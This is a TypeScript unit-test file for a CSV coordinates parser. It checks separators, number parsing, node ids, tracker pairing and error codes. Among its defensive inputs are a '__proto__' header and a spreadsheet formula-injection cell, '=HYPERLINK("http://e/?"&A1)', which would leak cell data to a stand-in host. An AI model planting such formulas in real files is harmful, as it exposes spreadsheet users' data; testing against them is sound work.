/** The file of coordinates: both formats, and every kind of fault. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { coordinatesCsv, type FiledMaster } from "#domain/layout/device-files.ts";
import { err, ok } from "#domain/result.ts";
import { MAX_LOCATIONS, readCoordinates } from "#domain/site-configuration/coordinates-csv.ts";
import {
  encodingOf,
  fileFaultOf,
  MAX_FILE_BYTES,
  typeFault,
} from "#domain/site-configuration/coordinates-file.ts";
import { importedNodeId } from "#domain/site-configuration/imported-node-id.ts";

const MASTERS = new Set(["m-1", "m-2"]);
const read = (text: string) => readCoordinates(text, MASTERS);
const faultOf = (text: string) => {
  const reading = read(text);
  return reading.ok ? "coordinates" : reading.error;
};
const OWN = "FCC23DE16E00296C";

describe("a file of coordinates", () => {
  it("is a template unless its first column is mLocId", () => {
    expect(read("xLoc,yLoc,rowNum,fromSouth,nId\n1.5,-2e1,3,4,a1\n")).toEqual(
      ok({
        format: "template",
        locations: [{ xLoc: 1.5, yLoc: -20, rowNum: 3, fromSouth: 4, nId: "00A1" }],
      }),
    );
    expect(read(`mLocId,nLocId,nId,xLoc,yLoc\nm-2,7,${OWN},1,2\n`)).toEqual(
      ok({
        format: "export",
        locations: [{ mLocId: "m-2", nLocId: "007", nId: OWN, xLoc: 1, yLoc: 2 }],
      }),
    );
  });

  it("distinguishes an empty id from a missing column", () => {
    const [empty, absent] = [read("xLoc,yLoc,nId\n1,2,\n"), read("xLoc,yLoc\n1,2\n")];
    expect(empty).toMatchObject(ok({ locations: [{ nId: "" }] }));
    expect(absent).toEqual(
      ok({
        format: "template",
        locations: [{ xLoc: 1, yLoc: 2 }],
      }),
    );
  });

  it("may hold other columns, and cells of nothing at the end of a line", () => {
    expect(read("xLoc,yLoc,Remark (field),,\n1,2,near the gate,,,\n")).toMatchObject(
      ok({
        locations: [{ xLoc: 1, yLoc: 2 }],
      }),
    );
  });

  it("may call its other columns anything, and leave their names out", () => {
    const heads = [
      "Größe (m²)",
      "=1+1",
      "__proto__",
      "",
      "Größe (m²)",
      "x".repeat(300),
      "Höhe; NN",
    ];
    expect(read(`${heads.join(",")},xLoc,yLoc\n${"9,".repeat(heads.length)}1,2\n`)).toMatchObject(
      ok({
        locations: [{ xLoc: 1, yLoc: 2 }],
      }),
    );
  });

  it.each([
    ["semicolons", "xLoc;yLoc;nId\n1.5;2;A1\n"],
    ["semicolons and decimal commas", "xLoc;yLoc;nId\n1,5;2,0;A1\n"],
    ["tabs", "xLoc\tyLoc\tnId\n1.5\t2\tA1\n"],
    ["tabs and decimal commas", "xLoc\tyLoc\tnId\r\n1,5\t2\tA1\r\n"],
    ["semicolons behind names with commas", 'xLoc;yLoc;nId;"a,b,c,d"\n1,5;2;A1;0\n'],
  ])("may separate its cells by %s", (_name, text) => {
    expect(read(text)).toEqual(
      ok({
        format: "template",
        locations: [{ xLoc: 1.5, yLoc: 2, nId: "00A1" }],
      }),
    );
  });

  it("does not guess whether a comma stands for thousands", () => {
    const fault = { code: "notNumber", line: 3, column: "xLoc" };
    expect(faultOf("xLoc;yLoc\n1.5;2\n1,234;2\n")).toEqual(fault);
    expect(faultOf("xLoc;yLoc\n1,5;2\n1,234,567;2\n")).toEqual(fault);
  });

  it("may pair the units of dual trackers, by the line above or by number", () => {
    const pair = ok({
      locations: [{ role: "primary" }, { role: "aux", primaryAt: 0, nId: "00A1" }],
    });
    expect(read("xLoc,yLoc,nId,role\n1,2,A1,primary\n1,3,,aux\n")).toMatchObject(pair);
    const numbered = "mLocId,nLocId,xLoc,yLoc,nId,role,relative\n";
    expect(read(`${numbered}m-1,4,1,2,A1,Primary,\nm-1,9,1,3,A1,AUX,4\n`)).toMatchObject(pair);
    expect(
      read(`${numbered}m-1,9,1,3,A1,aux,4\nm-1,5,1,2,,primary,\nm-1,4,1,2,A1,primary,\n`),
    ).toMatchObject(ok({ locations: [{ primaryAt: 2 }, {}, {}] }));
  });

  it.each([
    ["", { code: "noHeader", line: 1 }],
    ["yLoc,rowNum\n1,1\n", { code: "missingColumn", line: 1, column: "xLoc" }],
    ["xLoc,yLoc\n", { code: "noLocations", line: 2 }],
    ["\n\nxLoc,yLoc\n,\n", { code: "noLocations", line: 4 }],
    ["xLoc,yLoc,role\n1,2,master\n", { code: "role", line: 2, column: "role" }],
    ["xLoc,yLoc,role\n1,2,solo\n1,3,aux\n", { code: "withoutPrimary", line: 3, column: "role" }],
    [
      "mLocId,nLocId,xLoc,yLoc,role,relative\nm-1,4,1,2,primary,\nm-2,5,1,3,aux,4\n",
      { code: "withoutPrimary", line: 3, column: "role" },
    ],
    [
      "mLocId,xLoc,yLoc,role\nm-1,1,2,primary\nm-2,1,3,aux\n",
      { code: "withoutPrimary", line: 3, column: "role" },
    ],
    ["xLoc,yLoc,xLoc\n1,2,3\n", { code: "repeatedColumn", line: 1, column: "xLoc" }],
    ['xLoc,yLoc\n1,"2\n3,4\n', { code: "quotes", line: 2 }],
    ["xLoc,yLoc\n1,2\n1,5,3\n", { code: "tooManyCells", line: 3 }],
    ["xLoc,yLoc\n1,2\n\n3\n", { code: "notNumber", line: 4, column: "yLoc" }],
    ["xLoc,yLoc,rowNum\n1,2,3.5\n", { code: "notWhole", line: 2, column: "rowNum" }],
    ["xLoc,yLoc,nLocId\n1,2,1000\n", { code: "nLocId", line: 2, column: "nLocId" }],
    ["xLoc,yLoc,nLocId\n1,2,-1\n", { code: "nLocId", line: 2, column: "nLocId" }],
    ["xLoc,yLoc,nLocId\n1,2,3.5\n", { code: "nLocId", line: 2, column: "nLocId" }],
    [
      "mLocId,nLocId,xLoc,yLoc\nm-1,1,1,2\nm-2,1,1,2\nm-1,001,3,4\n",
      { code: "repeatedNLocId", line: 4, column: "nLocId" },
    ],
    ["mLocId,xLoc,yLoc\nm-3,1,2\n", { code: "unknownMaster", line: 2, column: "mLocId" }],
    ["mLocId,xLoc,yLoc\n,1,2\n", { code: "unknownMaster", line: 2, column: "mLocId" }],
    [
      'xLoc,yLoc,mLocId\n1,2,"=HYPERLINK(""http://e/?""&A1)"\n',
      { code: "mLocIdNotFirst", line: 1, column: "mLocId" },
    ],
    ["xLoc,yLoc,nId\n1,2,FCC23\n", { code: "nodeId", line: 2, column: "nId" }],
  ])("is refused with its line and column: %j", (text, fault) => {
    expect(faultOf(text)).toEqual(fault);
  });

  it.each(["NaN", "Infinity", "1e309", "0x10", "1 000", "١٢", "=1+1", "--1", "1e13", ""])(
    "takes no number that is %j",
    (cell) => {
      expect(faultOf(`xLoc,yLoc\n${cell},2\n`)).toEqual({
        code: "notNumber",
        line: 2,
        column: "xLoc",
      });
    },
  );

  it("is too large beyond the most locations", () => {
    const rows = "1,2\n".repeat(MAX_LOCATIONS);
    expect(read(`xLoc,yLoc\n${rows}`)).toMatchObject(ok({}));
    expect(read(`xLoc,yLoc\n${rows}1,2\n`)).toEqual(err("tooLarge"));
  });

  it("that the console has written is read as it was", () => {
    const node = fc.record({
      xLoc: fc.integer({ min: -10_000, max: 20_000 }).map((tenths) => tenths / 10),
      yLoc: fc.integer({ min: -10_000, max: 20_000 }).map((tenths) => tenths / 10),
      rowNum: fc.nat(1_000),
      fromSouth: fc.nat(100),
      nId: fc.constantFrom("", "00A1", OWN),
    });
    fc.assert(
      fc.property(fc.array(node, { minLength: 1, maxLength: 20 }), (nodes) => {
        const numbered = nodes.map((one, at) => ({ ...one, nLocId: String(at).padStart(3, "0") }));
        const master: FiledMaster = { id: "m-1", name: "Master 1", mId: "0", nodes: numbered };
        expect(read(coordinatesCsv([master]))).toEqual(
          ok({
            format: "export",
            locations: numbered.map(({ xLoc, yLoc, ...rest }) => ({
              ...rest,
              mLocId: "m-1",
              xLoc: Math.round(xLoc * 10) + 0,
              yLoc: Math.round(yLoc * 10) + 0,
            })),
          }),
        );
      }),
    );
  });

  it("is read or refused, whatever is in it", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        expect(faultOf(`xLoc,yLoc,nId\n${text}`)).not.toBe("tooLarge");
        expect(faultOf(text)).not.toBe("tooLarge");
      }),
    );
    expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain("xLoc");
  });
});

describe("an id of a node in a file", () => {
  it.each([
    ["", ""],
    ["1", "0001"],
    ["a1b", "0A1B"],
    ["00a1", "00A1"],
    ["1E+3", "1E+3"],
    ["fcc23de16e00296c", OWN],
  ])("%j becomes %j", (cell, nodeId) => {
    expect(importedNodeId(cell)).toBe(nodeId);
  });

  it.each(["12345", "FCC23DE16E00296", "ABC23DE16E00296C", `${OWN}0`, "GHIJ", "1.50", "-1"])(
    "%j is none",
    (cell) => {
      expect(importedNodeId(cell)).toBeUndefined();
    },
  );
});

describe("a chosen file", () => {
  const file = (name: string, type: string, size = 10) => typeFault({ name, type, size });

  it("is a table by its name or type, and not too large", () => {
    expect(file("plan.CSV", "")).toBeUndefined();
    expect(file("plan.csv", "application/vnd.ms-excel")).toBeUndefined();
    expect(file("plan.tsv", "text/tab-separated-values")).toBeUndefined();
    expect(file("plan.txt", "text/plain")).toBeUndefined();
    expect(file("plan", "text/csv")).toBeUndefined();
    expect(file("plan.pdf", "application/pdf")).toBe("wrongType");
    expect(file("plan.csv", "text/csv", MAX_FILE_BYTES + 1)).toBe("wrongType");
  });

  it.each(["plan.xlsx", "plan.XLS", "plan.ods", "plan.xlsm"])("is a workbook: %s", (name) => {
    expect(file(name, "")).toBe("workbook");
    expect(file(name, "text/csv")).toBe("workbook");
  });

  it("is recognised by its first bytes", () => {
    const bytes = (text: string) => Uint8Array.from(text, (one) => one.charCodeAt(0));
    expect(encodingOf(bytes("PK\u0003\u0004rest"))).toBeUndefined();
    expect(encodingOf(bytes("\u00ff\u00fex\0"))).toBe("utf-16le");
    expect(encodingOf(bytes("\u00fe\u00ff\0x"))).toBe("utf-16be");
    expect(encodingOf(bytes("xLoc"))).toBe("utf-8");
  });

  it("fails to be read in three ways", () => {
    expect(["NotFoundError", "AbortError", "NotReadableError"].map(fileFaultOf)).toEqual([
      "notFound",
      "aborted",
      "unreadable",
    ]);
  });
});
